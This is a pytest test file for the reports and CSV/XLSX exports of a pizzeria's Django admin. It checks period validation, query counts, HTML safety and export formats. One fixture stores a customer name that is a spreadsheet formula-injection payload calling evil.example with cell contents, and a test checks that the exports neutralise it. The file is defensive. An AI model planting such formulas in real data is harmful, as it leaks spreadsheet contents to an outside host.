"""The pages of the reports: what they show, what they say about a wrong period, and what the exports have."""

import csv
import re
from datetime import datetime, timedelta
from html import unescape
from io import BytesIO, StringIO

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import resolve, reverse
from openpyxl import load_workbook
from structlog.testing import capture_logs

from orders import services as order_services
from orders.customers.models import Customer
from orders.models import CancelReason
from orders.payments.models import PaymentAttempt
from orders.payments.services.receipts import issue_receipt
from orders.reports.registry import REPORTS
from pizzeria.foundation.actor import SYSTEM
from pizzeria.users.roles import CUSTOMER, KITCHEN
from tests import shop
from tests.factories import CouponFactory

pytestmark = pytest.mark.usefixtures("kitchen", "tonight")

EACH_REPORT = pytest.mark.parametrize("report", REPORTS, ids=lambda report: report.slug)
ATTACK = '=HYPERLINK("https://evil.example/"&A1)'


@pytest.fixture
def chiara():
    """Return the cook of the evening."""
    return shop.hire(KITCHEN, first_name="Chiara", last_name="Costa")


@pytest.fixture
def evening(chiara):
    """Place three orders of a Margherita: the customer's is handed over, one has a coupon, and one is cancelled."""
    carla = shop.hire(CUSTOMER, first_name="Carla", last_name="Verdi")
    eaten = shop.cooked(shop.place(by=carla), by=chiara)
    order_services.hand_over(ref=eaten.ref, by=chiara, at=shop.FRIDAY_NIGHT + timedelta(minutes=20))
    shop.place(coupon=CouponFactory().code)
    lost = shop.place()
    order_services.cancel_order(ref=lost.ref, reason=CancelReason.TOO_BUSY, by=SYSTEM, at=shop.FRIDAY_NIGHT)
    Customer.objects.filter(pk=eaten.customer_id).update(name=ATTACK)


def page_of(report, **parameters):
    return reverse(f"admin:reports:{report}", query=parameters or None)


def export_of(report, table, file_format, **parameters):
    return reverse("admin:reports:export", args=[report, table, file_format], query=parameters or None)


def count_queries(browser, report, **parameters):
    with CaptureQueriesContext(connection) as queries:
        assert browser.get(page_of(report.slug, **parameters)).status_code == 200
    return len(queries)


def html_of(response):
    return response.content.decode()


def sheet_of(response):
    return load_workbook(BytesIO(response.content)).active


def csv_of(response):
    return list(csv.reader(StringIO(response.content.decode("utf-8-sig"), newline="")))


@EACH_REPORT
def test_each_report_of_an_evening_has_key_figures_charts_and_tables(marta, evening, report):
    response = marta.get(page_of(report.slug, period="today"))

    html = html_of(response)
    assert response.status_code == 200
    assert "Fri 20 Nov 2026" in html
    assert html.count("<dt>") == len(report.figures(response.context["query"]))
    assert html.count('<th scope="col"') == sum(len(table.header) for table in response.context["tables"] if table.rows)
    charts = [table.chart for table in response.context["tables"] if table.chart]
    assert html.count('role="img"') == html.count("<desc ") == 2 * len(charts)  # each is drawn for two widths


def test_each_report_opens_before_the_first_order(marta):
    for report in REPORTS:
        response = marta.get(page_of(report.slug))

        assert response.status_code == 200, report.slug
        assert "nothing to compare with" in html_of(response), report.slug


def test_each_report_is_valid_has_no_inline_code_and_links_to_pages_that_exist(marta, evening):
    for report in REPORTS:
        html = html_of(marta.get(page_of(report.slug, period="today")))

        ids = re.findall(r'\bid="([^"]+)"', html)
        assert len(ids) == len(set(ids)), report.slug
        assert set(re.findall(r'aria-(?:labelledby|describedby)="([^"]+)"', html)) <= set(ids), report.slug
        assert re.findall(r"<[^>]*\son\w+=|<[^>]*\sstyle=|\bjavascript:|<style", html) == [], report.slug
        links = {link.partition("?")[0] for link in re.findall(r'href="(/admin/[^"]*)"', html)}
        assert {page_of(other.slug) for other in REPORTS} <= links
        assert {link for link in links if not resolve(link).url_name} == set()


def test_each_report_has_as_many_queries_for_a_year_as_for_a_day(marta, evening):
    marta.get(page_of("overview"))  # it fills caches

    for report in REPORTS:
        counts = [count_queries(marta, report, period=period) for period in ("today", "last_12_months")]
        assert counts[0] == counts[1], report.slug


def test_more_orders_need_no_more_queries(marta, evening, chiara):
    marta.get(page_of("overview"))  # it fills caches

    before = [count_queries(marta, report, period="today") for report in REPORTS]
    shop.cooked(shop.place(), by=chiara)
    after = [count_queries(marta, report, period="today") for report in REPORTS]

    assert before == after


@pytest.mark.parametrize(
    ("typed", "sentence"),
    [
        ({"first": "2026-11-20", "last": "2026-11-19"}, "The last day is before the first one."),
        ({"first": "2026-02-30", "last": "2026-03-01"}, "That is not a date. Please write it as 2026-11-20."),
        ({"first": "lunch", "last": "2026-03-01"}, "That is not a date. Please write it as 2026-11-20."),
        ({"first": "2010-01-01", "last": "2026-03-01"}, "Ten years at most, please."),
        ({"first": "0001-01-01", "last": "0001-01-02"}, "A date from 2000 to 2099, please."),
        ({"first": "2026-11-20"}, "Please choose the last day."),
        ({"period": "doomsday"}, "There is no such period. Please choose one of these, or two dates."),
        ({"first": "2026-11-20\x00", "last": "2026-11-21"}, "That is not a date. Please write it as 2026-11-20."),
    ],
)
def test_a_wrong_period_is_said_beside_the_form_which_stays_as_typed(marta, typed, sentence):
    response = marta.get(page_of("kitchen", **typed))

    html = html_of(response)
    assert response.status_code == 422
    assert html.count(sentence) >= 1
    assert "comparison" not in response.context
    for name in {"first", "last"} & typed.keys():
        assert response.context["form"][name].value() == typed[name]


def test_hours_of_a_whole_year_are_refused_beside_the_field(marta):
    response = marta.get(page_of("series", period="last_12_months", grain="hour"))

    assert response.status_code == 422
    assert response.context["form"].errors["grain"] == ["By the hour: 31 days at most, please."]


def test_a_wrong_period_exports_nothing(marta):
    response = marta.get(export_of("kitchen", "hours", "csv", first="2026-11-20", last="2026-11-19"))

    assert response.status_code == 422
    assert "The last day is before the first one." in html_of(response)


@pytest.mark.parametrize("grain", ["hour", "day", "week", "month"])
def test_a_time_series_shows_empty_intervals_and_their_sum(marta, evening, grain):
    response = marta.get(page_of("series", first="2026-11-10", last="2026-11-23", grain=grain))

    [table] = response.context["tables"]
    orders = [cell.text for cell in table.header].index("Orders")
    assert len(table.rows) == {"hour": 14 * 24, "day": 14, "week": 3, "month": 1}[grain]
    assert sum(int(row[orders].text) for row in table.rows) == int(table.total[orders].text) == 2


def test_the_other_reports_are_linked_with_the_same_period(marta):
    response = marta.get(page_of("products", period="last_friday"))
    dates = {"first": "2026-11-01", "last": "2026-11-20"}
    typed = marta.get(page_of("products", **dates))

    assert [link.url for link in response.context["reports"]] == [
        page_of(report.slug, period="last_friday") for report in REPORTS
    ]
    assert page_of("kitchen", **dates) in [link.url for link in typed.context["reports"]]


def test_the_reports_are_one_click_from_every_page_of_the_admin(marta):
    for page in (reverse("admin:index"), reverse("admin:orders_order_changelist"), page_of("staff")):
        assert f'<a href="{page_of("overview")}">Reports</a>' in html_of(marta.get(page))


def test_the_overview_compares_the_evening_with_the_period_before(marta):
    for days_ago in (7, 0, 0):
        shop.place(at=shop.FRIDAY_NIGHT - timedelta(days=days_ago))

    comparison = marta.get(page_of("overview", period="today")).context["comparison"]

    orders = next(compared for compared in comparison if compared.figure.title == "Orders")
    assert (orders.text, orders.text_before, orders.change_text) == ("2", "1", "▲ 100% more")


def test_a_year_is_not_compared_with_a_year_before_the_shops_first_order(marta):
    for days_ago in (300, 0):
        shop.place(at=shop.FRIDAY_NIGHT - timedelta(days=days_ago))

    response = marta.get(page_of("overview", period="last_12_months"))

    assert {compared.change for compared in response.context["comparison"]} == {None}
    assert "Nothing to compare with: the shop had no orders yet" in html_of(response)


def test_a_long_period_of_bookkeeping_is_by_month_on_the_page_and_by_day_in_the_exports(marta, chiara):
    for at in (shop.FRIDAY_NIGHT - timedelta(days=1), shop.FRIDAY_NIGHT):
        order = shop.cooked(shop.place(at=at), by=chiara, at=at)
        order_services.hand_over(ref=order.ref, by=chiara, at=at)
        issue_receipt(PaymentAttempt.objects.get(order=order), at=at)

    tables = {table.slug: table for table in marta.get(page_of("bookkeeping", period="this_year")).context["tables"]}
    days = csv_of(marta.get(export_of("bookkeeping", "receipts", "csv", period="this_year")))

    for slug in ("receipts", "taxes"):
        assert [row[0].text for row in tables[slug].rows] == ["November 2026"]
    assert [row[0] for row in days] == ["Day", "2026-11-19", "2026-11-20"]
    assert [cell.text for cell in tables["methods"].rows[0]][:3] == ["Cash", "€25.98", "2"]
    assert tables["rates"].total[1:] == tables["taxes"].total[2:]


def test_the_score_is_explained_always_and_shown_only_on_demand(marta, evening):
    without = marta.get(page_of("staff", period="today"))
    shown = marta.get(page_of("staff", period="today", score="on"))

    for page in (without, shown):
        assert "min(100, orders done × 10 + sales of these orders / 10)" in html_of(page)
    assert "Score" not in [cell.text for cell in without.context["tables"][0].header]
    assert [cell.text for cell in shown.context["tables"][0].header][-1] == "Score"
    assert f'"{page_of("staff", period="today", score="on")}">Show the score' in unescape(html_of(without))
    assert f'"{page_of("staff", period="today")}">Hide the score' in html_of(shown)


def test_the_score_is_not_offered_for_several_days_in_which_all_would_reach_the_maximum(marta, evening):
    page = marta.get(page_of("staff", period="last_7_days", score="on"))

    assert "Score" not in [cell.text for cell in page.context["tables"][0].header]
    assert "a single day only" in html_of(page)


def test_a_name_that_is_a_formula_is_text_on_the_page_and_in_both_exports(marta, evening):
    page = html_of(marta.get(page_of("customers", period="today")))
    rows = csv_of(marta.get(export_of("customers", "customers", "csv", period="today")))
    sheet = sheet_of(marta.get(export_of("customers", "customers", "xlsx", period="today")))

    assert "=HYPERLINK(&quot;https://evil.example/&quot;&amp;A1)" in page
    assert rows[1][0] == f"'{ATTACK}"
    cell = sheet["A2"]
    assert (cell.data_type, cell.value, cell.hyperlink) == ("s", f"'{ATTACK}", None)


def test_every_table_is_exported_with_the_columns_and_rows_of_its_page(marta, evening):
    for report in REPORTS:
        for table in marta.get(page_of(report.slug, period="today")).context["tables"]:
            header, *rows = csv_of(marta.get(export_of(report.slug, table.slug, "csv", period="today")))
            sheet = sheet_of(marta.get(export_of(report.slug, table.slug, "xlsx", period="today")))

            in_sheet = [cell.value for cell in sheet[1] if cell.value != "Offset from UTC"]
            assert header == [cell.text for cell in table.header] == in_sheet
            assert len(rows) == len(table.rows) == sheet.max_row - 1, table.caption


def test_amounts_are_numbers_and_days_are_dates_in_a_workbook(marta, evening):
    response = marta.get(export_of("series", "series", "xlsx", first="2026-11-19", last="2026-11-20", grain="day"))

    sheet = sheet_of(response)
    assert [cell.value for cell in sheet["A"]][1:] == [datetime(2026, 11, 19), datetime(2026, 11, 20)]
    assert isinstance(sheet["C3"].value, float)
    assert sheet["C3"].number_format == "#,##0.00"


def test_the_hour_that_comes_twice_when_the_clocks_go_back_is_told_apart_in_both_exports(marta):
    night = {"first": "2026-10-24", "last": "2026-10-25", "grain": "hour"}

    times = [row[0] for row in csv_of(marta.get(export_of("series", "series", "csv", **night)))]
    sheet = sheet_of(marta.get(export_of("series", "series", "xlsx", **night)))

    twice = ["2026-10-25 02:00+02:00", "2026-10-25 02:00+01:00"]
    assert [time for time in times if time.startswith("2026-10-25 02:00")] == twice
    at = times.index(twice[0])
    assert [[cell.value for cell in row[:2]] for row in sheet.iter_rows(min_row=at + 1, max_row=at + 2)] == [
        [datetime(2026, 10, 25, 2), "UTC+02:00"],
        [datetime(2026, 10, 25, 2), "UTC+01:00"],
    ]


def test_the_name_of_a_file_has_the_report_and_the_period(marta):
    response = marta.get(export_of("products", "pizzas", "csv", period="today"))

    assert response.headers["Content-Disposition"] == 'attachment; filename="products-pizzas_2026-11-20_2026-11-20.csv"'
    assert response.content.startswith(b"\xef\xbb\xbf")


def test_an_export_is_logged_with_who_and_what_but_without_the_contents(marta, evening):
    with capture_logs() as logs:
        marta.get(export_of("customers", "customers", "csv", period="today"))

    [event] = [log for log in logs if log["event"] == "report_exported"]
    assert event["by"] == str(marta.user.pk)
    assert (event["report"], event["first"], event["last"]) == ("customers", "2026-11-20", "2026-11-20")
    assert event["names_people"]
    assert "HYPERLINK" not in str(event)


@pytest.mark.parametrize(
    "missing", [("pepperoni", "pizzas", "csv"), ("products", "cats", "csv"), ("products", "pizzas", "pdf")]
)
def test_what_cannot_be_exported_does_not_exist(marta, missing):
    assert marta.get(export_of(*missing)).status_code == 404


def test_the_overview_is_also_found_where_its_exports_are(marta):
    response = marta.get(f"{page_of('overview')}overview/?period=today")

    assert (response.status_code, response.headers["Location"]) == (302, page_of("overview", period="today"))


def test_the_kitchen_may_not_see_reports(sign_in):
    assert sign_in(KITCHEN).get(page_of("staff"), follow=True).status_code == 403
